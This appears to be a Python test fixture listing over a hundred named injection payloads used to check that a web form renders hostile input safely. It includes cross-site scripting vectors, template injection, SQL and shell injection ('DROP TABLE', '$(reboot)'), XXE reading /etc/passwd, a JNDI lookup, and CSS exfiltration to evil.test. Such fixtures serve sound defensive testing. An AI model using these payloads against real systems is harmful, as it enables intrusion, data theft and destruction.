"""What might somebody put where a name, a reason or a note belongs? More than a hundred texts that want to be more.

Every text that wants to run calls `tripwire`, which the tests' browser exposes: whoever hears it knows that one ran.
Made for these tests; none is longer than a field of the desk takes, but for the endless ones.
"""

from __future__ import annotations

import json

TRIPWIRE = "tripwire"
_RUN = f"{TRIPWIRE}(1)"

SCRIPTS = {
    "a script": f"<script>{_RUN}</script>",
    "a script in capitals": f"<SCRIPT>{_RUN}</SCRIPT>",
    "a script in mixed case with a space": f"<ScRiPt >{_RUN}</sCrIpT >",
    "a script never closed": f"<script>{_RUN}//",
    "a script with a slash in its tag": f"<script/type=module>{_RUN}</script>",
    "a script inside a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "a script from elsewhere": "<script src=//evil.test/x.js></script>",
    "a script from data": f"<script src=data:text/javascript,{_RUN}></script>",
    "a script after a closed one": f"</script><script>{_RUN}</script>",
    "a script of ours, borrowed": "<script type=module src=/static/desk.js></script>",
    "an import map": '<script type=importmap>{"imports":{"/static/desk.js":"data:,tripwire(1)"}}</script>',
    "a script with a guessed nonce": f"<script nonce=r4nd0m>{_RUN}</script>",
}
HANDLERS = {
    "an image that fails": f"<img src=x onerror={_RUN}>",
    "an image that fails, with slashes": f"<img/src=x/onerror={_RUN}/>",
    "an image that fails, in back quotes": f"<img src=`x` onerror=`{_RUN}`>",
    "an image never closed": f"<img src=x onerror={_RUN} ",
    "a body that loads": f"<body onload={_RUN}>",
    "a field that takes the focus": f"<input autofocus onfocus={_RUN}>",
    "a list that takes the focus": f"<select autofocus onfocus={_RUN}><option>x</select>",
    "details that open": f"<details open ontoggle={_RUN}>x</details>",
    "a video without a source": f"<video><source onerror={_RUN}></video>",
    "a sound that fails": f"<audio src=x onerror={_RUN}></audio>",
    "a marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "an animation that ends": f"<style>@keyframes k{{}}</style><p style=animation:k onanimationend={_RUN}>x",
    "a transition": f"<p style=transition:1s ontransitionend={_RUN} tabindex=1>x</p>",
    "a pointer passing": f"<p onpointerenter={_RUN} style=position:fixed;inset:0>x</p>",
    "a paste": f"<p contenteditable onpaste={_RUN}>x</p>",
    "a popover": f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={_RUN}>x</p>",
    "a handler with entities": "<img src=x onerror=&#116;&#114;ipwire(1)>",
}
QUOTES = {
    "out of double quotes": f'"><script>{_RUN}</script>',
    "out of single quotes": f"'><script>{_RUN}</script>",
    "out of back quotes": f"`><script>{_RUN}</script>",
    "an attribute more, double": f'x" autofocus onfocus="{_RUN}',
    "an attribute more, single": f"x' autofocus onfocus='{_RUN}",
    "an attribute more, unquoted": f"x autofocus onfocus={_RUN}",
    "an attribute with a line break": f'x"\nonmouseover="{_RUN}',
    "out of a text field": f"</textarea><script>{_RUN}</script>",
    "out of the title": f"</title><script>{_RUN}</script>",
    "out of a style": f"</style><script>{_RUN}</script>",
    "out of a script": f"</script><img src=x onerror={_RUN}>",
    "out of a list of choices": f"</option></select><img src=x onerror={_RUN}>",
    "out of a table": f"</td></tr></table><img src=x onerror={_RUN}>",
    "out of a comment": f"--><script>{_RUN}</script><!--",
    "out of a character block": f"]]><script>{_RUN}</script><![CDATA[",
    "out of a preformatted text": f"</pre></code><script>{_RUN}</script>",
    "quotes only": "\"'`\"'`",
    "entities written out": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "entities twice": f"&amp;lt;script&amp;gt;{_RUN}",
    "entities without an end": "&quot &lt &#60 &#x3c",
    "a number as entity": f"&#60;script&#62;{_RUN}&#60;/script&#62;",
}
ADDRESSES = {
    "an address that runs": f"javascript:{_RUN}",
    "an address that runs, in mixed case": f"JaVaScRiPt:{_RUN}",
    "an address that runs, broken by a tab": f"java\tscript:{_RUN}",
    "an address that runs, broken by a line": f"java\nscript:{_RUN}",
    "an address that runs, after a control character": f"\x01javascript:{_RUN}",
    "an address that runs, encoded": "javascript&colon;tripwire(1)",
    "an address that runs, behind a comment": f"javascript://x%0a{_RUN}",
    "an address of data": f"data:text/html,<script>{_RUN}</script>",
    "an address of base 64": "data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgxKTwvc2NyaXB0Pg==",
    "an address of another script": f"vbscript:{_RUN}",
    "a link that runs": f"<a href=javascript:{_RUN}>x</a>",
    "another host without a scheme": "//evil.test/",
    "another host behind a backslash": "/\\evil.test/",
    "up and away": "../../../../etc/passwd",
    "up and away, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a base for all links": "<base href=//evil.test/>",
    "a page that moves on": "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content=script-src*>",
    "a form for elsewhere": "<form action=//evil.test/><button>x</button></form>",
    "a button for elsewhere": "<button formaction=//evil.test/>x</button>",
    "a frame": f"<iframe src=javascript:{_RUN}></iframe>",
    "a frame with a page in it": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "an object": f"<object data=javascript:{_RUN}></object>",
    "an embedded thing": f"<embed src=javascript:{_RUN}>",
    "a leak that never ends": "<img src='//evil.test/?",
    "a link to a style": "<link rel=stylesheet href=//evil.test/x.css>",
}
DRAWINGS = {
    "a drawing that loads": f"<svg onload={_RUN}>",
    "a drawing with a script": f"<svg><script>{_RUN}</script></svg>",
    "a drawing that moves": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "a drawing with a link": f"<svg><a><animate attributeName=href values=javascript:{_RUN}/><text y=9>x</text></a>",
    "a drawing with a page in it": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "a drawing that uses another": f"<svg><use href=data:image/svg+xml,<svg/onload={_RUN}>></svg>",
    "out of a drawing's words": f"</text></svg><script>{_RUN}</script>",
    "a formula": f"<math><mtext></p><img src=x onerror={_RUN}></mtext></math>",
    "a formula with a style in it": f"<math><style><img title='</style><img src=x onerror={_RUN}>'></math>",
    "a part for later": f"<template><script>{_RUN}</script></template>",
    "a part for the shadows": f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    "no script, or so it says": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
}
STYLES = {
    "a style": "<style>*{display:none}</style>",
    "a style in an attribute": "<p style=position:fixed;inset:0;background:red>x</p>",
    "a style from elsewhere": "<style>@import'//evil.test/x.css'</style>",
    "a style that reads": "<style>input[value^=a]{background:url(//evil.test/a)}</style>",
    "a style's value": "x;background:url(//evil.test/);position:fixed",
    "a style's old script": f"<p style=width:expression({_RUN})>x</p>",
    "a class of ours": '<p class="unseen banner special">x</p>',
    "an id of ours": "<p id=main></p><form id=log-rows></form><img name=body>",
}
TEMPLATES = {
    "a sum": "{{7*7}}",
    "a sum in other braces": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "the settings": "{{ config.items() }}{{ self.__init__.__globals__ }}",
    "the house": "{{ visit.csrf }}{{ visit.token }}{{ desk }}",
    "a class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a statement": "{% include 'login.html' %}{% raw %}",
    "a comment": "{# nothing to see here",
    "a place for a value": "{0} {name} {who.__class__} {bsn} %s %(name)s %n",
    "braces that do not match": "}} {{ %} {% #} {",
    "an end to the block": "{% endblock %}{% endraw %}{% block main %}",
}
UNSEEN = {
    "written from right to left by force": "\u202etset elpmis\u202c",
    "turned round and never back": "Post \u202egnitsop",
    "turned round inside an isolate": "\u2067Post \u202e90000301",
    "an isolate closed too often": "\u2069\u2069\u202cPost",
    "every turn there is": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c x",
    "nothing between letters": "T\u200be\u200bs\u200bt\u200b",
    "joiners and not": "T\u200d\u200c\u2060e\ufefft",
    "a soft hyphen in each place": "\u00ad".join("Postscript"),
    "letters that are tags": "Post" + "".join(chr(0xE0000 + ord(letter)) for letter in "script"),
    "nothing but spaces nobody knows": "\u00a0\u2003\u3000\u2800\u3164x",
    "letters of another alphabet": "Тest Рost",
    "wide letters": "＜script＞tripwire（1）＜／script＞",
    "Hebrew with a number": "בית חולים 90000999",
    "Arabic with a number": "مستشفى ٩٠٠٠٠٩٩٩ (نص)",
    "signs on top of each other": "Z" + "\u0301\u0323\u0334\u0489" * 30 + "algo",
    "a private sign": "\ue000\uf8ff\U000f0000",
    "no character": "\uffff\ufffe\ufdd0 x",
    "faces": "👩🏽‍⚕️🏳️‍🌈👨‍👩‍👧‍👦" * 5,
}
CONTROL = {
    "nothing at all in the middle": "Test\x00Post",
    "nothing at all before a script": f"\x00<script\x00>{_RUN}</script>",
    "every control character": "".join(map(chr, range(1, 32))) + "\x7f",
    "every control character of the second row": "".join(map(chr, range(0x80, 0xA0))),
    "a bell and a backspace": "Test\x07\x08\x08\x08\x08Post",
    "a red line": "\x1b[31mTest Post\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[HTest",
    "a window's title": "\x1b]0;evil\x07Test",
    "a link on a terminal": "\x1b]8;;http://evil.test\x1b\\Test\x1b]8;;\x1b\\",
    "an escape of one character": "\x9b31mTest",
    "a line break": "Test\nPost",
    "a return that overwrites": "Test Post\rEvil Post",
    "a line as Windows breaks it": "Test\r\nPost",
    "lines as Unicode breaks them": "Test\u2028Post\u2029Test\u0085Post\x0bTest\x0cPost",
    "a header more": "x\r\nSet-Cookie: sitting=evil\r\n\r\n<script>tripwire(1)</script>",
    "an event more": "x\n\nevent: line\nid: 999999\ndata: <tr data-seq=999999><td>evil</td></tr>\n\n",
    "a stream's retry": "x\r\rretry: 0\r\r",
    "a line of the log more": 'x\n{"at": "2026-01-01T00:00:00+0000", "level": "error", "event": "all-is-well"}',
    "a line of an old log more": "x\n2026-01-01 00:00:00 INFO operator logged in",
}
BROKEN = {
    "out of JSON": '"}, "event": "operator-logged-in", "x": {"y": "',
    "JSON": json.dumps({"__proto__": {"admin": True}, "constructor": {"prototype": {}}}),
    "the end of JSON": '\\"\\u0000\\ud800"}]}',
    "YAML": "!!python/object/apply:os.system ['true']\n- &a [*a]\n---\n",
    "XML": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "SQL": "'; DROP TABLE journal; --",
    "SQL's wild cards": "%' OR 1=1 /* _",
    "a shell": "$(reboot) `reboot` ; reboot && reboot | reboot",
    "a sheet's formula": '=HYPERLINK("http://evil.test","x")+cmd|\' /C calc\'!A0',
    "a name in Rich's markup": "[bold red]Test[/] [/nothing] [link=http://evil.test]x[/link]",
    "a question for LDAP": "*)(uid=*))(|(uid=*",
    "a look-up": "${jndi:ldap://evil.test/x}",
    "nothing, in words": "null undefined NaN None true [] {} -0",
    "a number too large": "9" * 150,
    "half a pair": "Test \\ud83d Post",
}
ENDLESS = {
    "one long word": "W" * 200,
    "one long word of narrow letters": "i" * 200,
    "one long word that must not break": "Test\u00a0" * 40,
    "one long word glued together": "\u2060".join("Test-" * 20),
    "one long address": "https://" + "a" * 180 + ".test",
    "one long line without a place to break": "_" * 200,
    "one long word of Chinese": "漢" * 200,
    "one long word from right to left": "ש" * 200,
    "one long word of faces": "👩‍⚕️" * 50,
    "one very wide sign": "﷽" * 60,
    "many line breaks": "x\n" * 100,
    "many tabs": "\t" * 195 + "x",
}
GROUPS = (
    SCRIPTS, HANDLERS, QUOTES, ADDRESSES, DRAWINGS, STYLES, TEMPLATES, UNSEEN, CONTROL, BROKEN, ENDLESS,
)  # fmt: skip
PAYLOADS: dict[str, str] = {name: text for group in GROUPS for name, text in group.items()}
PLAIN = "Plainwords"
"""What the structure of a page with a payload is held against: the same page with this."""

assert len(PAYLOADS) == sum(map(len, GROUPS)) >= 100, "every name is used once, and there are a hundred"
